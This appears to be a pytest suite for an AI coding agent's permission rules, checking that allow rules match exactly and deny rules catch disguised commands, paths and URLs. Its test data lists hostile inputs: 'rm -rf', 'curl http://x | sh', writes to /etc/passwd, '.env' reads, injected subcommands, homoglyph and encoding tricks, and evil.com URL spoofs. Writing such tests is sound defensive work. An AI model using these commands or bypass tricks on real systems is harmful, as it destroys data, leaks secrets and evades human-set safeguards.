"""Permission rules: an allow is exact, a deny is generous."""

from __future__ import annotations

import re

import pytest
from msgspec.structs import replace

from travois.permissions.access import Access, accesses_collide
from travois.permissions.decide import Permissions, decide_permission, plan_commands
from travois.permissions.rules import (
    PermissionRule,
    RuleEffect,
    ToolUse,
    explain_inert_rule,
    is_tool_denied,
    parse_permission_rule,
    rule_matches,
    split_rules,
)
from travois.permissions.shell import rough as loose

ROOT = "/home/u/proj"
HOME = "/home/u"


def speaks(
    text: str, effect: RuleEffect, *accesses: Access, tool: str = "", root: str = ROOT
) -> bool:
    rule = parse_permission_rule(text, effect)
    return rule_matches(rule, plan_commands(ToolUse(tool or rule.tool, accesses, root, HOME)))


def runs(what: str, command: str) -> bool:
    """Whether a command runs without a question when this is the only rule."""
    guard = Permissions("default", (parse_permission_rule(f"Bash({what})", "allow"),), (ROOT,))
    return (
        decide_permission(guard, ToolUse("Bash", (Access("exec", command),), ROOT, HOME)).effect
        == "allow"
    )


def read(path: str) -> Access:
    return Access("read", path)


def write(path: str) -> Access:
    return Access("write", path)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("Bash", PermissionRule("Bash", "", "allow")),
        (" Bash(git diff:*) ", PermissionRule("Bash", "git diff:*", "allow")),
        ("Bash(*)", PermissionRule("Bash", "", "allow")),
        ("Read(**)", PermissionRule("Read", "", "allow")),
        ("Bash(echo (a) (b))", PermissionRule("Bash", "echo (a) (b)", "allow")),
        ("mcp__server__*", PermissionRule("mcp__server__*", "", "allow")),
        ("WebFetch(domain:example.com)", PermissionRule("WebFetch", "domain:example.com", "allow")),
    ],
)
def test_a_rule_is_read(text: str, rule: PermissionRule) -> None:
    assert parse_permission_rule(text, "allow") == rule


@pytest.mark.parametrize("text", ["", "(x)", "Bash(x", "Ba sh", "Bash(x) y", "Bash()", "Bash( )"])
def test_what_is_no_rule_is_refused_with_its_text(text: str) -> None:
    with pytest.raises(ValueError, match=re.escape(repr(text))):
        parse_permission_rule(text, "allow")


def test_a_rule_says_itself_and_where_it_came_from() -> None:
    assert (
        str(parse_permission_rule("Bash(ls)", "deny", origin="settings"))
        == "deny Bash(ls) (settings)"
    )
    assert str(parse_permission_rule("Bash", "ask")) == "ask Bash"


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("", []),
        (" , ", []),
        ("Read,Edit", ["Read", "Edit"]),
        ("Read Edit\tGrep\nGlob", ["Read", "Edit", "Grep", "Glob"]),
        ("Bash(git diff:*), Bash(a, b)", ["Bash(git diff:*)", "Bash(a, b)"]),
        ("Bash(f(a b) c) Read", ["Bash(f(a b) c)", "Read"]),
        ("Bash(a)) Read(b)", ["Bash(a))", "Read(b)"]),
        ("Bash(a Read", ["Bash(a Read"]),
    ],
)
def test_rules_in_one_word_are_parted_outside_parentheses(text: str, rules: list[str]) -> None:
    assert split_rules(text) == rules


ALLOWED_COMMANDS = [
    ("npm test:*", "npm test"),
    ("npm test:*", "npm test -- --reporter dot"),
    ("npm test:*", "  npm test a.js  "),
    ("npm test *", "npm test a.js"),
    ("npm test *", "npm test"),
    ("npm test:*", "npm  test"),
    ("npm run *", "npm run lint"),
    ("npm run test", "npm run test"),
    ("make test", "make test"),
    ("make:*", "make -j4 test lint"),
    ("./run.sh:*", "./run.sh a b"),
    ("* --check", "ruff format --check"),
    ("frob --format=%h[x]?", "frob --format=%h[x]?"),
    ("a && b", "a && b"),
    ("npm test:*", "npm test && ls | head"),
    ("npm test:*", "timeout 5 npm test"),
    ("npm test:*", "NODE_ENV=test npm test"),
    ("npm test:*", "nice npm test 2>&1 | tail -5"),
    ("npm test:*", "cd src && npm test"),
    ("npm test:*", "for i in 1 2; do npm test; done"),
    ("npm test:*", "(npm test)"),
    ("git commit:*", "git commit -m 'a; b'"),
    ("git commit:*", 'git commit -m "$(date)"'),
]
CHAINED = (
    "make a; rm -rf x",
    "make a;rm -rf x",
    "make a && x",
    "make a || x",
    "make a | sh",
    "make a & x",
    "make a\nrm -rf x",
    "make a\r\nrm -rf x",
    "make a $(rm -rf x)",
    "make a `rm -rf x`",
    "make a > /etc/passwd",
    "make a >> b",
    "make a <(rm x)",
    "make a ${x}",
    "make a $x",
    "make a (x)",
    "make a \\\n; x",
    "FOO=1 make a",
    "sudo make a",
    "watch make a",
    "function make { x; }; make a",
    "make -C ../b a",
    "make a SHELL=./x",
    "make --file=b a",
    "mаke a",
)


@pytest.mark.parametrize(("what", "command"), ALLOWED_COMMANDS)
def test_an_allow_rule_matches_its_command(what: str, command: str) -> None:
    assert runs(what, command)


@pytest.mark.parametrize("what", ["make a:*", "make a *", "make a", "make*", "make:*"])
@pytest.mark.parametrize("command", CHAINED)
def test_an_allow_rule_never_covers_what_it_does_not_name(what: str, command: str) -> None:
    assert not runs(what, command)


@pytest.mark.parametrize(
    ("what", "command"),
    [
        ("make a:*", "make ab"),
        ("make a:*", "MAKE A"),
        ("make a:*", "x make a"),
        ("*", "rm -rf /"),
        ("make a", "make a b"),
        ("frob [ab]", "frob a"),
        ("frob ?", "frob a"),
        ("a && b", "a && b && c"),
        ("a && *", "a && c"),
        ("npm run test:*", "npm 'run test' x"),
        ("npm run build", "npm run build:evil"),
        ("git diff:*", "git difftool"),
    ],
)
def test_an_allow_rule_matches_nothing_else(what: str, command: str) -> None:
    assert not runs(what, command)


@pytest.mark.parametrize(
    "command",
    [
        "rm",
        "rm -rf x",
        "  rm x",
        "rm\t-rf x",
        "true; rm x",
        "true;rm x",
        "true && rm x",
        "true\nrm x",
        "$(rm x)",
        "`rm x`",
        "(rm x)",
        "{ rm x; }",
        "{rm,-rf,x}",
        "rm$IFS-rf",
        "rm${IFS}-rf",
        "sudo rm x",
        "FOO=1 rm x",
        "env FOO=1 rm x",
        "xargs rm",
        "find . -exec rm {} +",
        "bash -c 'rm x'",
        'bash -c "rm x"',
        "/bin/rm x",
        "./a/../rm x",
        "r\\m x",
        "r''m x",
        'r"m" x',
        "'rm' x",
        "r\\\nm x",
        "RM x",
        "cat a|rm x",
        "a>b;rm x",
    ],
)
def test_a_deny_rule_finds_its_command_anywhere(command: str) -> None:
    assert speaks("Bash(rm:*)", "deny", Access("exec", command))
    assert speaks("Bash(rm *)", "ask", Access("exec", command))


@pytest.mark.parametrize("command", ["ls", "rmdir x", "git push --farm x", "echo arm", ""])
def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
    assert not speaks("Bash(rm:*)", "deny", Access("exec", command))


@pytest.mark.parametrize(
    ("what", "command"),
    [
        ("git push", "cd x && git push origin"),
        ("git push:*", "git  push"),
        ("curl * | sh", "curl http://x | sh"),
        ("curl * | sh", "true; curl http://x |sh -s"),
        ("*secret*", "cat a/secret/b"),
        ("[ -f x ]", "[ -f x ] && y"),
    ],
)
def test_a_deny_rule_of_several_words_is_found_too(what: str, command: str) -> None:
    assert speaks(f"Bash({what})", "deny", Access("exec", command))


@pytest.mark.parametrize(
    ("what", "path"),
    [
        ("src/**", f"{ROOT}/src/a/b.py"),
        ("src/*", f"{ROOT}/src/a.py"),
        ("src", f"{ROOT}/src/a.py"),
        ("src/", f"{ROOT}/src/a.py"),
        ("*.py", f"{ROOT}/a.py"),
        ("*.py", f"{ROOT}/x/y/a.py"),
        ("**/*.py", f"{ROOT}/a.py"),
        ("src/**/b.py", f"{ROOT}/src/b.py"),
        ("/src/**", f"{ROOT}/src/a.py"),
        ("./src/**", f"{ROOT}/src/a.py"),
        ("./.env", f"{ROOT}/.env"),
        ("/.env", f"{ROOT}/.env"),
        (".env", f"{ROOT}/.env"),
        ("//etc/hosts", "/etc/hosts"),
        ("//var/**", "/var/log/x"),
        ("~/notes/**", "/home/u/notes/a"),
        ("~/.zshrc", "/home/u/.zshrc"),
        ("../other/**", "/home/u/other/a"),
        ("a?.[ch]", f"{ROOT}/ab.c"),
        ("a[!x]", f"{ROOT}/ab"),
        ("/", f"{ROOT}/a"),
        ("./", f"{ROOT}/a/b"),
        ("a+(b)", f"{ROOT}/a+(b)"),
        ("new\nline", f"{ROOT}/new\nline"),
    ],
)
def test_a_path_rule_matches(what: str, path: str) -> None:
    assert speaks(f"Read({what})", "allow", read(path))
    assert speaks(f"Read({what})", "deny", read(path))


@pytest.mark.parametrize(
    ("what", "path"),
    [
        ("src/**", f"{ROOT}/other/src/a.py"),
        ("src/**", f"{ROOT}/srcs/a.py"),
        ("src/**", f"{ROOT}-evil/src/a.py"),
        ("src/**", f"{ROOT}/src/../../x"),
        ("src/**", f"{ROOT}/link/../src/a.py"),
        ("src/**", "/src/a.py"),
        ("src/**", "src/a.py"),
        ("/src/**", "/src/a.py"),
        ("*.py", "/etc/a.py"),
        ("*.py", f"{ROOT}/a.pyc"),
        (".env", f"{ROOT}/xenv"),
        ("src/*.py", f"{ROOT}/src/a/b.py"),
        ("//etc/hosts", f"{ROOT}/etc/hosts"),
        ("//etc/hosts", "/etc/hosts.bak"),
        ("~/x", "/home/other/x"),
        ("~/x", f"{ROOT}/x"),
        ("a?b", f"{ROOT}/a/b"),
        ("a[!x]b", f"{ROOT}/a/b"),
        ("a[z-a]", f"{ROOT}/ab"),
        ("SRC/**", f"{ROOT}/src/a"),
        ("./.env", f"{ROOT}/env"),
    ],
)
def test_an_allowed_path_is_no_other(what: str, path: str) -> None:
    assert not speaks(f"Read({what})", "allow", read(path))


def test_a_root_with_special_characters_is_just_a_folder() -> None:
    assert speaks("Read(a)", "allow", read("/w/[x]*/a"), root="/w/[x]*")
    assert not speaks("Read(a)", "allow", read("/w/xy/a"), root="/w/[x]*")


def test_without_a_home_a_tilde_allows_nothing_but_still_denies_nothing_else() -> None:
    use = ToolUse("Read", (read("/home/u/.ssh/id"),), ROOT)
    assert not rule_matches(parse_permission_rule("Read(~/.ssh/**)", "allow"), use)


@pytest.mark.parametrize(
    "path",
    [
        f"{ROOT}/.env",
        f"{ROOT}/.ENV",
        f"{ROOT}/a/b/.env",
        f"{ROOT}/.env/x",
        f"{ROOT}/x/../.env",
        f"//{ROOT}/.env",
        f"{ROOT}/.e\u200bnv",
        f"{ROOT}/．env",
    ],
)
@pytest.mark.parametrize("what", [".env", "**/.env"])
def test_a_denied_path_is_found_however_it_is_spelt(what: str, path: str) -> None:
    assert speaks(f"Read({what})", "deny", read(path))


def test_a_path_denied_to_read_or_edit_is_denied_to_every_tool() -> None:
    assert speaks("Read(.env)", "deny", read(f"{ROOT}/.env"), tool="Grep")
    assert speaks("Read(.env)", "deny", write(f"{ROOT}/.env"), tool="Write")
    assert speaks("Edit(.env)", "deny", write(f"{ROOT}/.env"), tool="mcp__x__save")
    assert not speaks("Edit(.env)", "deny", read(f"{ROOT}/.env"), tool="Grep")
    assert not speaks("Read", "deny", read(f"{ROOT}/.env"), tool="Grep")


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat ./.env",
        "head -1 src/../.env",
        "wc -l < .env",
        "cd src && cat ../.env",
        "git show HEAD:.env",
        "python3 x.py .env",
        "x() { cat .env; }; x",
        "cp .env b",
        "cat .e*",
        "cat .ENV",
    ],
)
def test_a_path_denied_to_read_is_not_read_by_a_command(command: str) -> None:
    guard = Permissions("bypass", (parse_permission_rule("Read(.env)", "deny"),), (ROOT,))
    asking = Permissions("default", guard.rules, guard.folders)
    use = ToolUse("Bash", (Access("exec", command),), ROOT, HOME)
    assert decide_permission(asking, use).effect != "allow"
    if "*" not in command:
        assert decide_permission(guard, use).effect == "deny"


def test_a_rule_to_read_or_to_edit_lets_every_reader_read_there() -> None:
    for rule in ("Read(src/**)", "Edit(src/**)"):
        assert speaks(rule, "allow", read(f"{ROOT}/src/a"), tool="Grep")
        assert not speaks(rule, "allow", read(f"{ROOT}/src/a"), tool="mcp__x__y")
    assert not speaks("Read(src/**)", "allow", write(f"{ROOT}/src/a"), tool="Edit")


def test_a_link_is_allowed_only_with_what_it_leads_to_and_denied_with_either() -> None:
    link = Access("read", f"{ROOT}/b/x", spelt=f"{ROOT}/a/x")
    assert not speaks("Read(a/**)", "allow", link)
    assert not speaks("Read(b/**)", "allow", link)
    assert speaks("Read(*)", "allow", link)
    assert speaks("Read(a/**)", "deny", link)
    assert speaks("Read(b/**)", "deny", link)


@pytest.mark.parametrize("tool", ["Edit", "Write", "MultiEdit", "NotebookEdit"])
def test_a_rule_for_edit_is_one_for_every_way_of_editing(tool: str) -> None:
    assert speaks("Edit(src/**)", "allow", write(f"{ROOT}/src/a"), tool=tool)
    assert not speaks("Edit(src/**)", "allow", write(f"{ROOT}/a"), tool=tool)


def test_tools_can_be_named_by_pattern_and_case_counts() -> None:
    assert speaks("mcp__a__*", "allow", tool="mcp__a__b")
    assert speaks("mcp__a", "allow", tool="mcp__a__b")
    assert speaks("Agent(x)", "allow", Access("spawn", "x"), tool="Task")
    assert speaks("*", "deny", tool="Bash")
    assert not speaks("*", "allow", tool="Bash")
    assert explain_inert_rule(parse_permission_rule("mcp__*", "allow")) and not explain_inert_rule(
        parse_permission_rule("mcp__*", "deny")
    )
    assert not speaks("mcp__a__*", "allow", tool="mcp__ab__c")
    assert not speaks("bash", "allow", tool="Bash")


@pytest.mark.parametrize(
    ("text", "tools"),
    [
        ("Bash(*)", ["Bash"]),
        ("Bash(ls)", []),
        ("Task", ["Agent"]),
        ("Edit", ["Write"]),
        ("Git*", ["GitLog"]),
        ("mcp__a", ["mcp__a__b"]),
        ("mcp__*", ["mcp__a__b"]),
        ("*", ["Agent", "Bash", "GitLog", "Write", "mcp__a__b"]),
    ],
)
def test_a_tool_is_withheld_once_all_of_it_is_denied(text: str, tools: list[str]) -> None:
    every = ("Agent", "Bash", "GitLog", "Write", "mcp__a__b")
    assert [
        tool for tool in every if is_tool_denied((parse_permission_rule(text, "deny"),), tool)
    ] == tools
    assert not any(is_tool_denied((parse_permission_rule(text, "ask"),), tool) for tool in every)
    spared = replace(
        parse_permission_rule(text, "deny"), unless=(parse_permission_rule("Bash(x)", "allow"),)
    )
    assert not any(is_tool_denied((spared,), tool) for tool in every)


def test_an_allow_must_cover_all_that_a_call_touches_and_a_deny_any_of_it() -> None:
    both = (read(f"{ROOT}/src/a"), read("/etc/passwd"))
    assert not speaks("Read(src/**)", "allow", *both)
    assert speaks("Read(src/**)", "deny", *both)
    assert not speaks("Read(src/**)", "allow")
    assert not speaks("Read(src/**)", "deny")


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com",
        "https://example.com/",
        "http://EXAMPLE.com:8080/a?b#c",
        "https://example.com./x",
        "https://example.com?q=@evil.com",
    ],
)
def test_a_domain_is_allowed(url: str) -> None:
    assert speaks("WebFetch(domain:example.com)", "allow", Access("net", url))
    assert speaks("WebFetch(domain:*)", "allow", Access("net", url))


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.com/example.com",
        "https://example.com@evil.com/",
        "https://example.com:80@evil.com/",
        "https://evil.com?@example.com/",
        "https://evil.com#@example.com/",
        "https://evil.com\\@example.com/",
        "https://example.com\\.evil.com/",
        "https://example.com.evil.com/",
        "https://notexample.com/",
        "https://sub.example.com/",
        "https://example.com\0.evil.com/",
        "https://example.com\n.evil.com/",
        "https://example.com%2eevil.com/",
        "https://еxample.com/",
        "https://[::1]/",
        "https:///example.com",
        "https:example.com",
        "example.com",
        "ftp://example.com/",
        "file:///example.com",
        "",
    ],
)
def test_a_domain_that_only_looks_like_the_allowed_one_is_not(url: str) -> None:
    assert not speaks("WebFetch(domain:example.com)", "allow", Access("net", url))


def test_a_wildcard_domain_means_what_stands_below_it() -> None:
    below = Access("net", "https://a.b.example.com/")
    assert speaks("WebFetch(domain:*.example.com)", "allow", below)
    for url in ("https://example.com/", "https://xexample.com/"):
        assert not speaks("WebFetch(domain:*.example.com)", "allow", Access("net", url))


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.com/",
        "HTTPS://EVIL.COM",
        "https://evil.com./",
        "https://sub.evil.com/",
        "https://user:pass@evil.com:443/",
        "https://good.com@evil.com",
        "https://evil.com@good.com",
        "https://ev%69l.com/",
        "https://ｅvil.com/",
        "https://e\tvil.com/",
        "https:/evil.com",
        "//evil.com/",
        "evil.com:80/x",
        "evil.com",
    ],
)
def test_a_denied_domain_is_found_however_it_is_written(url: str) -> None:
    assert speaks("WebFetch(domain:evil.com)", "deny", Access("net", url))


def test_a_denied_domain_leaves_others_alone() -> None:
    for url in ("https://notevil.com/", "https://good.com/evil.com", "https://evil.com.good.org/"):
        assert not speaks("WebFetch(domain:evil.com)", "deny", Access("net", url))


def test_a_rule_may_name_one_url() -> None:
    url = "https://example.com/a"
    assert speaks(f"WebFetch({url})", "allow", Access("net", url))
    assert not speaks(f"WebFetch({url})", "allow", Access("net", url + "b"))
    assert speaks(f"WebFetch({url})", "deny", Access("net", url))


def test_a_star_in_a_domain_stays_within_its_label() -> None:
    assert speaks("WebFetch(domain:api-*.x.org)", "allow", Access("net", "https://api-1.x.org/"))
    assert not speaks(
        "WebFetch(domain:api-*.x.org)", "allow", Access("net", "https://api-1.y.x.org/")
    )


def test_a_denied_argument_is_named_with_its_value() -> None:
    use = ToolUse("Bash", (), ROOT, params=(("run_in_background", "true"), ("command", "x")))
    assert rule_matches(parse_permission_rule("Bash(run_in_background:true)", "deny"), use)
    assert not rule_matches(parse_permission_rule("Bash(run_in_background:false)", "deny"), use)
    assert not rule_matches(parse_permission_rule("Bash(command:x)", "deny"), use)


def test_a_child_is_named_by_its_kind() -> None:
    assert speaks("Task(explore)", "allow", Access("spawn", "explore"))
    assert not speaks("Task(explore)", "allow", Access("spawn", "Explore"))
    assert speaks("Task(exp*)", "deny", Access("spawn", "Explore"))


@pytest.mark.parametrize(
    ("one", "other", "expected"),
    [
        (read("/a"), read("/a"), False),
        (write("/a"), read("/a"), True),
        (read("/a"), write("/a"), True),
        (write("/a"), write("/a"), True),
        (write("/a"), write("/b"), False),
        (write("/a/b"), read("/a"), True),
        (read("/a/b"), write("/a"), True),
        (write("/ab"), read("/a"), False),
        (write("/"), read("/a"), True),
        (Access("exec", "ls"), read("/a"), True),
        (read("/a"), Access("exec", "ls"), True),
        (Access("net", "https://x"), write("/a"), False),
        (Access("spawn", "x"), Access("spawn", "x"), False),
    ],
)
def test_calls_collide_when_one_changes_what_the_other_touches(
    one: Access, other: Access, expected: bool
) -> None:
    assert accesses_collide((one,), (other,)) is expected
    assert accesses_collide((other,), (one,)) is expected


def test_a_call_that_touches_nothing_collides_with_nothing() -> None:
    assert not accesses_collide((), (Access("exec", "ls"),))


@pytest.mark.parametrize("what", ["\x1f", "\x1c:*", "*\x1d*", " \x1e "])
def test_a_rule_of_blanks_alone_stops_nothing_and_fails_nowhere(what: str) -> None:
    assert not loose.command_mentions(what, "ls")
